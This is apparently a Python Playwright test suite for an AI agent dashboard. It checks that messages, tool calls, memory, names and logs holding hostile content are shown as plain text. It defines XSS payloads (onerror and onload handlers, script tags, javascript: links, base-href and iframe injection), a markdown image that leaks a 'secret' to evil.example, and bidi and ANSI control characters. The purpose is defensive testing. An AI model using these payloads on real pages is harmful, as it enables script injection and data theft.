"""Hostile content: what models, tools and people write is shown as text. Nothing runs or is fetched; the page holds.

The pages are watched: a request to another origin, a violation of the policy or an error fails the test.
"""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
from playwright.sync_api import Page, expect

from tests.dashboard.agents import make_agent, require_approval, say
from tests.dashboard.watched import Watched

SCRIPT = "<img src=x onerror=\"window.hacked=1\"><script>window.hacked=1</script><svg onload='window.hacked=1'>"
MARKDOWN = """
![exfiltrate](https://evil.example/?q=secret) ![data](data:text/html;base64,PHNjcmlwdD4=)
[click](javascript:window.hacked=1) [tab](java\tscript:window.hacked=1) [data](data:text/html,<script>hacked=1</script>)
[ok](https://example.com/page) <https://evil.example> <b onclick="window.hacked=1">bold</b>
<iframe src="https://evil.example"></iframe> <style>*{display:none}</style> <base href="https://evil.example/">
"""
BIDI = "\u202eevil\u202c \u2066isolate\u2069 \u200fright"
ANSI = "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u0000 bell\u0007"


def held(page: Page) -> bool:
    """True if nothing ran, and nothing is wider than the page."""
    fits = page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    return page.evaluate("window.hacked") is None and fits


def test_messages_and_tool_results_are_text(api: httpx.Client, visit: Callable[..., Watched]) -> None:
    agent = make_agent(api, "mouth", memory_blocks=[{"label": "human", "value": SCRIPT}])
    call = {"name": "memory_insert", "arguments": {"label": SCRIPT, "new_string": MARKDOWN + ANSI, "x": "y" * 5000}}
    say(api, agent, {"reasoning": SCRIPT + BIDI, "calls": [call]}, {"text": SCRIPT + MARKDOWN + BIDI + ANSI})
    page = visit(viewport={"width": 380, "height": 800}).open(f"#/chat/{agent['id']}")
    answer = page.get_by_role("article", name="Agent")
    expect(answer).to_contain_text("<script>window.hacked=1</script>")
    expect(answer).to_contain_text("[image: exfiltrate]")
    assert answer.locator("img, script, svg, iframe, style, base").count() == 0
    links = answer.locator(".md a").evaluate_all("(all) => all.map((each) => each.getAttribute('href'))")
    assert set(links) == {
        "https://evil.example/?q=secret",
        "https://example.com/page",
        "https://evil.example",
        "https://evil.example/",
    }
    rel = answer.locator(".md a").evaluate_all("(all) => all.map((each) => each.rel)")
    assert set(rel) == {"noopener noreferrer nofollow"}
    expect(answer).to_contain_text("red")
    assert "\u001b" not in answer.inner_text() and "\u202e" not in answer.inner_text()
    page.get_by_role("article", name="Tool call").locator("summary").click()
    expect(page.get_by_role("article", name="Tool call")).to_contain_text("hacked=1")
    assert held(page)
    step = api.get("/v1/steps/", params={"agent_id": agent["id"], "limit": 1}).json()[0]
    page.goto(f"{page.url.partition('#')[0]}#/steps/{step['id']}")
    expect(page.get_by_role("heading", name="Where the tokens go")).to_be_visible()
    for summary in page.locator(".parts summary").all():
        summary.click()
    assert held(page)
    page.set_viewport_size({"width": 1280, "height": 800})
    assert held(page)


def test_a_megabyte_is_cut_and_shown_on_request(api: httpx.Client, watched: Watched) -> None:
    agent = make_agent(api, "loud", model="kelpie/demo")
    rows = [{"role": "user", "content": "<b>" + "wide " * 200_000}, {"role": "assistant", "content": "x" * 1_000_000}]
    body = {"provider": "test", "model": "m", "request_messages": rows, "response_dict": {}}
    captured = api.post(f"/v1/agents/{agent['id']}/messages/capture", json=body)
    assert captured.status_code == 200, captured.text
    page = watched.open(f"#/chat/{agent['id']}")
    button = page.get_by_role("button", name="Show all 1 MB")
    expect(button).to_have_count(2)
    assert page.evaluate("document.body.innerText.length") < 100_000
    button.last.click()
    expect(button).to_have_count(1)
    assert page.evaluate("document.querySelector('.entry.assistant pre').textContent.length") == 1_000_000
    assert held(page)


def test_addresses_that_are_no_places_do_no_harm(api: httpx.Client, watched: Watched) -> None:
    watched.expect("status of 4")
    for place in ("#/agents/%3Cscript%3E", "#/runs/../../x", "#/steps/%ff", "#/nowhere/x", "#/chat/agent-0/%00", "#//"):
        page = watched.open(place)
        page.reload()
        expect(page.get_by_role("heading", level=1).first).to_be_visible()
        assert held(page)


def test_every_screen_shows_hostile_names_and_texts_as_text(
    api: httpx.Client, visit: Callable[..., Watched], screenshot: Callable[[Page, str], Path]
) -> None:
    """One agent of which everything is hostile, seen on each screen at the width of a phone and of a desk."""
    ids = hostile_agent(api)
    agent = ids["agent"]
    watched = visit(viewport={"width": 1280, "height": 800})
    line = f"id: 1a2b3c4d-1\ndata: {json.dumps({'number': 1, 'line': LINE})}\n\n"
    watched.page.route(
        "**/v1/kelpie/logs/stream**", lambda route: route.fulfill(body=line, content_type="text/event-stream")
    )
    page = watched.open(f"#/memory/{agent}")
    places = (
        *(f"memory/{agent}/{part}" for part in ("blocks", "working", "passages", "files", f"blocks/{ids['block']}")),
        *("inbox", f"runs/{ids['run']}", "schedules", f"schedules/{ids['schedule']}", "schedules/webhooks"),
        *("tools/servers", f"tools/tool/{ids['tool']}", "tools?search=evil_tool"),
        *(f"tools/permissions?agent={agent}", "access", "access/users", f"transfer?agent={agent}", "logs", "health"),
        *(f"prompt/{agent}", f"chat/{agent}", f"agents/{agent}", f"memory/{ids['loud']}", "agents"),
    )
    named = ("usage", "runs", "tools/calls", f"memory/{agent}/facts", f"memory/{agent}/search")  # the agent's name only
    bare = ("access/tokens", "tools/permissions", "tools")
    for place in (*places, *named, *bare):
        page.goto(f"{watched.url}/#/{place}")
        if "?agent=" in place:
            expect(page.get_by_label("Agent", exact=True), place).to_have_value(NAME)
        elif place in bare:
            expect(page.locator(":is(main .card, main .list, main .empty):visible").first, place).to_be_visible()
        else:
            expect(page.locator("main"), place).to_contain_text(NAME if place in named else MARK)
        assert page.locator("main [onerror], main script, main iframe, main img[src='x']").count() == 0, place
        for width in (1280, 380):
            page.set_viewport_size({"width": width, "height": 800})
            assert held(page), (place, width, screenshot(page, "wide"))
    page.goto(f"{watched.url}/#/agents")
    page.get_by_role("button", name="New agent").first.click()
    page.get_by_role("dialog").get_by_label("Template").select_option(index=1)
    assert held(page)
    assert "\u202e" not in page.evaluate("document.body.innerText")


MARK = "window.hacked=1"
NAME = "evil <img src=x onerror=window.hacked=2>"
WORD = "w" * 200
EVIL = f"<img src=x onerror={MARK}>{BIDI}{WORD}"
LINE = {"time": "2026-01-02T03:04:05Z", "level": "error", "component": EVIL, "event": EVIL + ANSI, "exception": EVIL}


def hostile_agent(api: httpx.Client) -> dict[str, str]:
    """An agent with hostile text wherever text can be; ids of what belongs to it."""

    def made(method: str, path: str, **request: Any) -> Any:
        answer = api.request(method, path, **request)
        assert answer.status_code < 300, f"{path}: {answer.text[:400]}"
        return answer.json() if answer.content else None

    blocks = [{"label": "human", "value": EVIL + ANSI, "description": EVIL}]
    big = {"label": "big", "value": f"{MARK} " + "x" * 1_000_000, "limit": 2_000_000}
    agent = make_agent(api, NAME, description=EVIL + "w" * 3000, memory_blocks=blocks, tags=[EVIL[:400]])
    loud = make_agent(api, "loud block", memory_blocks=[big])
    base = f"/v1/agents/{agent['id']}"
    block = made("GET", f"{base}/core-memory/blocks/human")
    made("PATCH", f"/v1/blocks/{block['id']}", json={"value": MARKDOWN + EVIL})
    made("POST", f"{base}/archival-memory", json={"text": EVIL + MARKDOWN + ANSI, "tags": [EVIL[:80]]})
    made("PUT", f"{base}/working-memory/evil", json={"value": {EVIL: EVIL}})
    folder = made("POST", "/v1/folders/", json={"name": f"{MARK} {WORD[:60]}"})
    made("PATCH", f"{base}/folders/attach/{folder['id']}")
    named = f"<img src=x onerror={MARK}>{WORD[:80]}.md"
    made("POST", f"/v1/folders/{folder['id']}/upload", files={"file": (named, b"# x", "text/markdown")})
    weekly = {"type": "recurring", "cron_expression": "0 9 * * 1"}
    schedule = made(
        "POST", f"{base}/schedule", json={"messages": [{"role": "user", "content": EVIL}], "schedule": weekly}
    )
    made("POST", f"{base}/hooks", json={"name": f"{MARK} {WORD[:60]}", "instructions": EVIL})
    config = {"mcp_server_type": "streamable_http", "server_url": "http://mcp.invalid/x"}
    server = made("POST", "/v1/mcp-servers/", json={"server_name": f"{MARK} {WORD[:60]}", "config": config})
    api.patch(f"/v1/mcp-servers/{server['id']}/refresh")
    schema = {"name": "evil_tool", "description": EVIL, "parameters": {"type": "object", "properties": {}}}
    schema["parameters"]["properties"] = {WORD[:60]: {"type": "string", "description": EVIL, "enum": [EVIL, "b"]}}  # pyright: ignore[reportArgumentType]
    source = f'def evil_tool() -> str:\n    """{MARK}"""\n    return "x"\n'
    tool = made("POST", "/v1/tools/", json={"source_code": source, "json_schema": schema, "tags": [EVIL[:60]]})
    made("PATCH", f"{base}/tools/attach/{tool['id']}")
    made("POST", "/v1/kelpie/keys", json={"name": EVIL[:120], "scopes": ["read"]})
    organization = made("GET", "/v1/admin/orgs/")[0]["id"]
    made("POST", "/v1/admin/users/", json={"name": EVIL[:120], "organization_id": organization})
    made("POST", "/v1/templates", json={"type": "agent", "agent_id": agent["id"], "name": "evil-template"})
    made("POST", "/v1/conversations/", params={"agent_id": agent["id"]}, json={"summary": EVIL})
    insert = {"name": "memory_insert", "arguments": {"label": "human", "new_string": EVIL + ANSI}}
    say(api, agent, {"reasoning": EVIL, "calls": [insert]}, {"text": EVIL + MARKDOWN})
    require_approval(api, agent, "memory_insert")
    say(api, agent, {"calls": [insert]}, {"text": "x"})
    run = made("GET", "/v1/kelpie/runs", params={"agent_id": agent["id"]})[0]["id"]
    ids = {"block": block, "schedule": schedule, "tool": tool, "agent": agent, "loud": loud}
    return {name: each["id"] for name, each in ids.items()} | {"run": run}
